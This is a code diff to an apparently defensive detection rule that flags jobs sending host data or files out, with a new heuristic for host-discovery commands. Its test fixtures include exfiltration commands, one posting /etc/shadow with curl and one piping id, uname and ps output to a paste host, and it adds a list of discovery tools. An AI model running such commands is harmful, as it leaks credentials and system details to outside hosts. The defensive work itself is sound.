@@ -1,6 +1,7 @@
+import type { ClosureCommand } from "../inventory/closure.ts";
 import { timed } from "./example-host.ts";
 import type { ActivationRule } from "./rule.ts";
-import { accuse, behavioursOfKind, isPackagedPlace } from "./subject.ts";
+import { accuse, baseName, behavioursOfKind, isPackagedPlace } from "./subject.ts";
 
 /** Files or facts of this host are sent to another machine. */
 export const sendsDataOut: ActivationRule = {
@@ -23,16 +24,21 @@ export const sendsDataOut: ActivationRule = {
   references: ["https://attack.mitre.org/techniques/T1041/"],
 
   *check(activation, inventory) {
-    for (const { behaviour } of behavioursOfKind(activation, new Set(["exfiltrates"]))) {
-      const isOrdinary = behaviour.confidence === "low" || ORDINARY.test(behaviour.says);
+    for (const { behaviour, command } of behavioursOfKind(activation, new Set(["exfiltrates"]))) {
+      const isOrdinary =
+        (behaviour.confidence === "low" || ORDINARY.test(behaviour.says)) && !describesHost(command);
       if (isOrdinary || isPackagedPlace(behaviour.span.path, activation, inventory)) continue;
       yield accuse(behaviour, inventory);
     }
   },
 
   examples: {
-    fires: [timed("ExecStart=/usr/bin/curl -F f=@/etc/shadow http://192.0.2.7/")],
+    fires: [
+      timed("ExecStart=/usr/bin/curl -F f=@/etc/shadow http://192.0.2.7/"),
+      timed("ExecStart=/bin/sh -c '(id; uname -a; ps aux) | curl -s -F f=@- https://paste.example.test/'"),
+    ],
     quiet: [
+      timed("ExecStart=/bin/sh -c 'df -P | curl -fsS --data-binary @- https://influx.example.test/write'"),
       timed("ExecStart=/usr/bin/curl -fsS -m 10 https://hc.example.test/ping/1"),
       timed("ExecStart=/usr/bin/restic backup /srv"),
     ],
@@ -41,3 +47,15 @@ export const sendsDataOut: ActivationRule = {
 
 /** Mail, copies over ssh, and what a pipe computed: how backups, certificates and metrics travel. */
 const ORDINARY = / mails | copies files to | the content of - /;
+
+/** Programs that tell about a host and its people (T1082, T1033, T1057, T1518). */
+const DISCOVERY =
+  /^(id|whoami|uname|hostname|hostnamectl|who|w|last|lscpu|lsblk|ip|ifconfig|ss|netstat|ps|pacman|dpkg|dpkg-query|rpm|systemctl|getent|env|printenv|crontab|lsmod|mount)$/;
+
+/** Three such programs in one job are a description of the host. */
+function describesHost({ followed }: ClosureCommand): boolean {
+  const used = new Set(
+    followed.reached.filter(({ kind }) => kind === "program").map(({ name }) => baseName(name)),
+  );
+  return [...used].filter((name) => DISCOVERY.test(name)).length >= 3;
+}
